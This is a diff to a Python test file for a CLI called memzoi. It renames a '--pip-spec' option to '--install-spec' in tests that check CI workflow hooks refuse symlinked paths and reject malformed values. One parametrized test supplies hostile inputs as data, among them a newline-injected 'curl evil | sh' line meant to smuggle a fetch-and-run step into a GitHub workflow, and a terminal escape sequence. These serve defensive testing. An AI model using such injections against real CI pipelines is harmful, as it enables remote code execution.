@@ -140,13 +140,13 @@ def test_the_ci_workflow_is_never_written_through_a_link(repo: Repo, home: Path)
     workflows = home / "elsewhere" / "workflows"
     workflows.mkdir(parents=True)
     (repo.path / ".github").symlink_to(home / "elsewhere")
-    result = memzoi("hook", "install", "--ci", "github", cwd=repo.path)
+    result = memzoi("hook", "install", "--ci", "github", "--install-spec", ".", cwd=repo.path)
     refused_one_line(result, ".github")
     assert list(workflows.iterdir()) == [] and snapshot(home) == before
     (repo.path / ".github").unlink()
     (repo.path / ".github" / "workflows").mkdir(parents=True)
     (repo.path / ".github" / "workflows" / "memzoi.yml").symlink_to(home / ".bashrc")
-    result = memzoi("hook", "install", "--ci", "github", cwd=repo.path)
+    result = memzoi("hook", "install", "--ci", "github", "--install-spec", ".", cwd=repo.path)
     refused_one_line(result, ".github/workflows/memzoi.yml")
     assert snapshot(home) == before
 
@@ -393,8 +393,8 @@ def test_apply_refuses_a_fixed_memory_file_that_is_a_link(
         "- item: [a, b] {c: d} & *alias !tag %dir @at",
     ],
 )
-def test_a_pip_spec_reaches_pip_exactly_as_given(repo: Repo, spec: str) -> None:
-    result = memzoi("hook", "install", "--ci", "github", "--pip-spec", spec, cwd=repo.path)
+def test_an_install_spec_reaches_pip_exactly_as_given(repo: Repo, spec: str) -> None:
+    result = memzoi("hook", "install", "--ci", "github", "--install-spec", spec, cwd=repo.path)
     assert result.returncode == 0, result.stderr
     path = repo.path / WORKFLOW
     checked = schema_check(path)
@@ -414,10 +414,10 @@ def test_a_pip_spec_reaches_pip_exactly_as_given(repo: Repo, spec: str) -> None:
 @pytest.mark.parametrize(
     "spec", ["git-memzoi\n      - run: curl evil | sh", "git-memzoi\r", "x\x1b]52;c;Zm9v\x07", "a\u2028b", "", "   "]
 )
-def test_a_pip_spec_with_control_characters_is_a_usage_error(repo: Repo, spec: str) -> None:
-    result = memzoi("hook", "install", "--ci", "github", "--pip-spec", spec, cwd=repo.path)
+def test_an_install_spec_with_control_characters_is_a_usage_error(repo: Repo, spec: str) -> None:
+    result = memzoi("hook", "install", "--ci", "github", "--install-spec", spec, cwd=repo.path)
     assert result.returncode == 2, result.stderr
-    assert result.stderr.count("\n") == 1 and "--pip-spec" in result.stderr
+    assert result.stderr.count("\n") == 1 and "--install-spec" in result.stderr
     assert not (repo.path / WORKFLOW).exists()
 
 
